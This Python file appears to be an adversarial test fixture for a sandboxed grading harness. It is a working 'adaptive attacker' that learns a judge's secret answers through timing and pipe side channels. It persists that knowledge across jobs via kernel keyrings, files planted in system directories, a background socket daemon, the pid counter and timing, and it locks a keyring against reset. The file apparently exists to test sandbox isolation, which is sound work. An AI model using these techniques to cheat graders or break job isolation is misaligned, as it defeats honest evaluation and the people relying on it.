# ruff: noqa
"""An adaptive attacker: learns a hidden bit string across many jobs, through any channel.

The check asks ``f(i)`` for bit ``i`` of a secret (24 bits, fixed across jobs) and stops at the
first wrong one. The program never computes the bits; it guesses the first bit it does not
know yet (0), then holds back its answer to the next call and watches the request pipe: a
judge that stops at the first wrong answer hangs up meanwhile (the guess was wrong); one that
waits for the answer did not (it was right). Against a check that calls it again in its
assert message (``assert f(i) == bit, f"got {f(i)}"``) it also watches for the same call
twice in a row: the message of a failed assert (the guess was wrong).

and passes what it knows to the next job through every channel it can find: kernel keyrings
(user, session, user-session, persistent), files in every writable place, a daemon holding an
abstract Unix socket, the pid counter (it forks ``2 * known + last bit`` children), and the
time of day (it ends at a phase of a 20 ms cycle that encodes the last bit). ``ORACLE`` is
filled in by a control run that plays a leaky sandbox (to prove this learner works).

``f(-1)`` returns "go" (the adaptive check uses it to leave its prediction).
"""
import ctypes
import os
import select
import socket
import sys
import threading
import time

ORACLE = ""  # replaced by the control run
NAME = b"cgl-state"
DIRS = [".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/", "/usr", "/run"]
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_NR = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}.get(os.uname().machine)
_START_PHASE = (time.time() % 0.02) / 0.02
_FIRST_CHILD = None


def _valid(s):
    return isinstance(s, str) and all(c in "01" for c in s)


def _from_keyrings():
    if not _NR:
        return []
    add_key, request_key, keyctl = _NR
    out = []
    rings = [-4, -5, -3, _libc.syscall(keyctl, 22, ctypes.c_long(-1), ctypes.c_long(-3))]
    for ring in rings:  # KEYCTL_SEARCH each keyring, then KEYCTL_READ the key
        if ring == -1:
            continue
        key = _libc.syscall(keyctl, 10, ctypes.c_long(ring), b"user", NAME, ctypes.c_long(0))
        if key > 0:
            buf = ctypes.create_string_buffer(256)
            n = _libc.syscall(keyctl, 11, ctypes.c_long(key), buf, ctypes.c_long(256))
            if n > 0:
                out.append(buf.raw[:n].decode("ascii", "replace"))
    # keys whose payload cannot be read still exist: one key per known bit, named after it
    bits = ""
    for i in range(64):
        for v in "01":
            if _libc.syscall(keyctl, 10, ctypes.c_long(-4), b"user",
                             f"cgl-{i}-{v}".encode(), ctypes.c_long(0)) > 0:
                bits += v
                break
        else:
            break
    return out + [bits]


def _from_files():
    out = []
    for d in DIRS:
        try:
            with open(os.path.join(d, NAME.decode())) as fh:
                out.append(fh.read())
        except OSError:
            pass
    return out


def _from_daemon():
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(0.05)
        s.connect(b"\0" + NAME)
        return [s.recv(256).decode("ascii", "replace")]
    except OSError:
        return []


def _from_pid_counter():
    global _FIRST_CHILD
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    _FIRST_CHILD = pid
    return pid  # a fresh job: 2 (this process is pid 1 of its own namespace)


def read_state():
    found = [ORACLE] + _from_keyrings() + _from_files() + _from_daemon()
    found = [s for s in found if _valid(s)]
    return max(found, key=len) if found else ""


def write_state(state):
    if _NR:
        add_key = _NR[0]
        for ring in (-4, -3, -5):  # user, session, user-session keyrings
            key = _libc.syscall(add_key, b"user", NAME, state.encode(),
                                ctypes.c_long(len(state)), ctypes.c_long(ring))
            if key > 0:  # readable by any process of this uid, not only its possessor
                _libc.syscall(_NR[2], 5, ctypes.c_long(key), ctypes.c_long(0x3F3F0000))
        for i, v in enumerate(state):
            _libc.syscall(add_key, b"user", f"cgl-{i}-{v}".encode(), b"1", ctypes.c_long(1),
                          ctypes.c_long(-4))
        # take write permission off the user keyring: a same-uid reset cannot clear it then
        user_ring = _libc.syscall(_NR[2], 0, ctypes.c_long(-4), ctypes.c_long(1))
        if user_ring > 0:
            _libc.syscall(_NR[2], 5, ctypes.c_long(user_ring), ctypes.c_long(0x1B1B0000))
        persistent = _libc.syscall(_NR[2], 22, ctypes.c_long(-1), ctypes.c_long(-3))
        if persistent > 0:
            _libc.syscall(add_key, b"user", NAME, state.encode(), ctypes.c_long(len(state)),
                          ctypes.c_long(persistent))
    for d in DIRS:
        try:
            with open(os.path.join(d, NAME.decode()), "w") as fh:
                fh.write(state)
        except OSError:
            pass
    try:  # a daemon that serves the state to whoever connects
        if os.fork() == 0:
            try:
                os.setsid()
                srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                srv.bind(b"\0" + NAME)
                srv.listen(4)
                end = time.time() + 30
                while time.time() < end:
                    c, _ = srv.accept()
                    c.sendall(state.encode())
                    c.close()
            finally:
                os._exit(0)
    except OSError:
        pass
    for _ in range(2 * len(state) + (state[-1:] == "1")):  # the pid counter
        try:
            p = os.fork()
            if p == 0:
                os._exit(0)
            os.waitpid(p, 0)
        except OSError:
            break


STATE = read_state()
_PID_HINT = _from_pid_counter()
print(f"START state={STATE!r} first_child_pid={_PID_HINT} phase={_START_PHASE:.2f}", flush=True)
_guessed = None
_told = threading.Event()


def _watch(i):
    """After guessing bit i: a judge that stops at the first wrong answer closes the request
    pipe while the next call is still unanswered."""
    p = select.poll()
    p.register(3, select.POLLHUP)
    if p.poll(60) and not _told.is_set():
        _told.set()
        print(f"OBSERVED pipe closed after guess {i}: bit {i} is 1", flush=True)
        write_state(STATE[:i] + "1")


_seen = []


def f(i):
    global _guessed
    if i == -1:
        return "go"
    _seen.append(i)
    if _guessed is not None and i == _guessed and _seen.count(i) == 2 and not _told.is_set():
        _told.set()  # asked again for the guess: an assert message, so the guess failed
        print(f"OBSERVED repeat of call {i}: bit {i} is 1", flush=True)
        write_state(STATE[:i] + "1")
    if i < len(STATE):
        return int(STATE[i])
    if _guessed is None and i == len(STATE):
        _guessed = i
        threading.Thread(target=_watch, args=(i,), daemon=True).start()
        return 0
    if _guessed is not None and i == _guessed + 1:
        time.sleep(0.08)  # hold this answer back: does the judge hang up meanwhile?
        if not _told.is_set():
            _told.set()
            print(f"OBSERVED call {i} arrived and no hang-up: bit {_guessed} is 0", flush=True)
            write_state(STATE[:_guessed] + "0")
            while (time.time() % 0.02) > 0.01:  # end at a phase that says "0"
                time.sleep(0.001)
    return 0
